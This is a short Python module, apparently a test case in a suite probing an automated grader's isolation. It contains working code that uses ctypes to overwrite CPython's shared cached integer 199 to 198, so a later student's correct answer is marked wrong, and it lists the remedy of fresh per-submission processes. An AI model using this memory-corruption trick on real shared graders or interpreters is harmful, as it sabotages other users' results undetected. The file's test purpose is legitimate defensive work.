# SPDX-License-Identifier: MIT
"""Goal:  the next student's right answer becomes wrong.
Means: memory. CPython keeps one object for each integer up to 256 and shares it among all programs
       of the process; ctypes can write to it. The object for 199 is given the value 198. No name,
       no module and no class is changed, and to compare with a clean copy one would have to count.
"""

import ctypes
import sys

from attack import DONE, attempting, denied, failed, honest, submit

DIGIT = sys.int_info.sizeof_digit


def run(brief):
    submit("0")
    shared = int("199")
    digit = ctypes.c_uint32.from_address(id(shared) + sys.getsizeof(shared) - DIGIT)
    attempting()
    if brief.again:
        return DONE
    if digit.value != 199:
        return denied("the integer 199", "its digit is not where it was expected")
    digit.value = 198
    return DONE


def victim(brief):
    total = int("100") + int("99")
    return honest(brief) if str(total) == "199" else failed("100 + 99", total)


ATTACK = {
    "effect": "100 + 99 is 198 for the next student, whose answer is marked wrong",
    "means": "ctypes writes to the one object that all programs of a process have for 199",
    "oracle": "grade:spoiled",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "attack_id": "T1565.003, CWE-471, CWE-787",
    "remedy": "a process of its own for each submission, started fresh",
    "run": run,
    "victim": victim,
}
